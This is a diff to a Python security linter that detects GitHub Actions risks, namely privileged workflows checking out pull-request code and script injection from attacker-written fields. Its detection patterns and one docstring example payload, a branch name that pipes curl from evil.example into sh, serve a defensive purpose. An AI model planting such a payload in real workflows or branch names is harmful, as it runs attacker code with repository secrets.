@@ -5,9 +5,9 @@ from __future__ import annotations
 import re
 from collections.abc import Iterator, Sequence
 
-from hardenctl.formats.workflow import Step, Workflow, expressions
+from hardenctl.formats.workflow import PRIVILEGED, Step, Workflow, expressions
 from hardenctl.formats.yaml import Scalar
-from hardenctl.model.finding import Hit, Severity, advice
+from hardenctl.model.finding import Hit, Related, Severity, advice
 from hardenctl.rules.declare import rule
 
 # What a stranger writes, or names as he likes. https://docs.github.com/en/actions/concepts/security/script-injections
@@ -20,14 +20,35 @@ _WRITTEN = re.compile(
     r"|github\.event\.(?:head_commit|commits(?:\[\d+\]|\.\*))\.(?:message|author\.(?:name|email))\b"
     r"|github\.event\.pages(?:\[\d+\]|\.\*)\.page_name\b"
 )
+# Which events have what is written.
+_PULL_REQUESTS = frozenset(
+    ("pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment")
+)
+_EVENTS = {
+    "head_ref": _PULL_REQUESTS,
+    "pull_request": _PULL_REQUESTS,
+    "review": _PULL_REQUESTS,
+    "review_comment": _PULL_REQUESTS,
+    "issue": frozenset(("issues", "issue_comment")),
+    "discussion": frozenset(("discussion", "discussion_comment")),
+    "comment": frozenset(("issue_comment", "discussion_comment", "commit_comment", "pull_request_review_comment")),
+    "workflow_run": frozenset(("workflow_run",)),
+    "head_commit": frozenset(("push",)),
+    "commits": frozenset(("push",)),
+    "pages": frozenset(("gollum",)),
+}
 _ANSWERS = re.compile(r"\b(?:contains|startsWith|endsWith|hashFiles)\s*\([^()]*(?:\([^()]*\)[^()]*)*\)", re.IGNORECASE)
 _COMPARED = re.compile(r"[=!]=")
-# The head of a pull request: what its author wrote, down to the build scripts.
-_HEAD = re.compile(
-    r"github\.event\.pull_request\.(?:head\.(?:sha|ref)|merge_commit_sha)|github\.head_ref"
-    r"|refs/pull/|github\.event\.(?:issue|pull_request)\.number"
-    r"|github\.event\.workflow_run\.(?:head_sha|head_branch|head_commit\.id)"
-)
+# The head of a pull request, down to its build scripts its author's, as the events that have rights name it.
+_HEADS = {
+    "pull_request_target": re.compile(
+        r"github\.event\.pull_request\.(?:head\.(?:sha|ref|repo)|merge_commit_sha)|github\.head_ref|refs/pull/"
+    ),
+    "workflow_run": re.compile(r"github\.event\.workflow_run\.(?:head_|pull_requests)"),
+    "issue_comment": re.compile(r"refs/pull/|github\.event\.issue\.number"),
+}
+_EVENT = re.compile(r"github\.event_name\s*(==|!=)\s*'(\w+)'")
+_PULL_REQUEST = re.compile(r"(?<!!)github\.event\.pull_request\s*(?:$|&&|\}\})")  # which only some events have
 _PULLED = re.compile(r"\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n]*\bpull/|\bgit\s+checkout\b[^\n]*\bFETCH_HEAD\b")
 # The pull request is from the repository itself.
 _OWN = re.compile(
@@ -86,29 +107,46 @@ def untrusted_checkout(workflow: Workflow) -> Iterator[Hit]:
     - https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/
     - https://docs.github.com/en/actions/reference/security/secure-use
     """
-    if not workflow.privileged:
-        return
+    found: dict[tuple[str, Severity | None], list[tuple[str, Scalar]]] = {}
     for job in workflow.jobs:
         for number, step in enumerate(job.steps):
-            place = _taken(step)
             conditions = f"{job.condition} {step.condition}"
-            if place is None or _OWN.search(conditions) or not _is_run(job.steps[number + 1 :], step):
+            taken = _taken(step, _possible(workflow.privileged, conditions))
+            if taken is None or _OWN.search(conditions) or not _is_run(job.steps[number + 1 :], step):
                 continue
             low = Severity.LOW if _ASKED.search(conditions) else None
-            trigger = min(workflow.privileged)
-            message = f"job {job.name} runs a pull request's code on {trigger}, with the repository's secrets"
-            fix = advice("test it on `pull_request`, and keep what needs secrets away from its code")
-            yield Hit(place.span, message, identity=job.name, severity=low, fix=fix)
+            found.setdefault((taken[0], low), []).append((job.name, taken[1]))
             break
+    for (trigger, severity), places in found.items():
+        (name, place), *others = places
+        jobs = f"job {name}" if not others else f"jobs {', '.join(name for name, _ in places[:-1])} and {places[-1][0]}"
+        message = f"{jobs} run{'' if others else 's'} a pull request's code on {trigger}, with the repository's secrets"
+        fix = advice("test it on `pull_request`, and keep what needs secrets away from its code")
+        related = tuple(Related(other.span, f"in job {job}") for job, other in others)
+        yield Hit(place.span, message, identity=trigger, severity=severity, fix=fix, related=related)
 
 
-def _taken(step: Step) -> Scalar | None:
-    """What says that a step gets a pull request's code; None where it does not."""
-    if step.action == "actions/checkout":
-        found = [each for name in ("ref", "repository") if (each := step.given(name))]
-        return next((each for each in found if _HEAD.search(each.text) or "head.repo." in each.text), None)
+def _possible(triggers: frozenset[str], conditions: str) -> frozenset[str]:
+    """The triggers that a condition lets through, as far as it is plain."""
+    if "||" in conditions:
+        return triggers
+    for comparison, name in _EVENT.findall(conditions):
+        triggers = triggers & {name} if comparison == "==" else triggers - {name}
+    return triggers & {"pull_request_target"} if _PULL_REQUEST.search(conditions) else triggers
+
+
+def _taken(step: Step, triggers: frozenset[str]) -> tuple[str, Scalar] | None:
+    """How a step gets a pull request's code: by which trigger, and what says so; None where it does not."""
     script = step.script
-    return script if script is not None and step.uses is None and _PULLED.search(script.text) else None
+    if step.action == "actions/checkout":
+        given = [each for name in ("ref", "repository") if (each := step.given(name))]
+        for trigger in sorted(triggers & _HEADS.keys()):
+            for each in given:
+                if _HEADS[trigger].search(each.text):
+                    return trigger, each
+    elif triggers and script is not None and step.uses is None and _PULLED.search(script.text):
+        return min(triggers), script
+    return None
 
 
 def _is_run(later: Sequence[Step], step: Step) -> bool:
@@ -127,7 +165,7 @@ def script_injection(workflow: Workflow) -> Iterator[Hit]:
     `"; curl evil.example | sh #`, or a branch of such a name, runs as a command, with the job's token and secrets.
 
     Low where only people who may push can start the workflow, or where it runs a pull request's code anyway, without
-    secrets (`pull_request`).
+    secrets (`pull_request`). Medium in an action, whose callers decide.
 
     ## Example
     ```yaml title=".github/workflows/greet.yml"
@@ -157,18 +195,31 @@ def script_injection(workflow: Workflow) -> Iterator[Hit]:
     - https://docs.github.com/en/actions/concepts/security/script-injections
     """
     said: set[str] = set()
-    low = Severity.LOW if workflow.triggers and not workflow.privileged else None
     for step in workflow.steps:
         script = step.script
-        if script is None:
-            continue
-        what = "the script" if step.uses is None else "the program"
-        for start, end, written in _injected(script):
-            if written not in said and not (written.endswith("head_branch") and workflow.has_fixed_branches):
-                said.add(written)
-                span, message = script.strand.span(start, end), f"{written} becomes part of {what}"
-                fix = advice("set it as a variable under `env`, and use the variable")
-                yield Hit(span, message, identity=written, severity=low, fix=fix)
+        for start, end, written in _injected(script) if script else ():
+            events = _events_of(written, workflow)
+            if script is None or written in said or events is None:
+                continue
+            said.add(written)
+            severity = Severity.LOW if events else Severity.MEDIUM  # an action's callers are not known
+            severity = None if events & PRIVILEGED else severity
+            message = f"{written} becomes part of {'the script' if step.uses is None else 'the program'}"
+            fix = advice("set it as a variable under `env`, and use the variable")
+            span = script.strand.span(start, end)
+            yield Hit(span, message, identity=written, severity=severity, fix=fix)
+
+
+def _events_of(written: str, workflow: Workflow) -> frozenset[str] | None:
+    """The workflow's events that have what is written; none where its caller's do, and None where there are none."""
+    if written.endswith("head_branch") and workflow.has_fixed_branches:
+        return None
+    root = re.split(r"[.\[]", written.removeprefix("github.").removeprefix("event."))[0]
+    if not workflow.triggers:
+        return frozenset()
+    if workflow.triggers & {"workflow_call"}:
+        return workflow.triggers & _EVENTS[root] | {"workflow_call"}
+    return workflow.triggers & _EVENTS[root] or None
 
 
 def _injected(script: Scalar) -> Iterator[tuple[int, int, str]]:
